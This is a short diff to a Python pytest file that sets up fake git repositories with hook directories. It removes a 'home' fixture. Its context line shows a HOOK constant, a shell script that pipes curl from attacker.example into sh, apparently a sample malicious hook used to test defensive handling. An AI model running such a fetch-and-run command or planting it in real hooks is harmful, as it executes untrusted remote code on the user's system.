@@ -18,13 +18,6 @@ HOOK = "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
 
 
 @pytest.fixture
-def home(tmp_path: Path) -> Path:
-    path = tmp_path / "home"
-    path.mkdir()
-    return path
-
-
-@pytest.fixture
 def repo(project: Path) -> Path:
     for name in ("hooks", "info", "modules/lib/hooks", "objects", "refs/heads"):
         (project / ".git" / name).mkdir(parents=True)
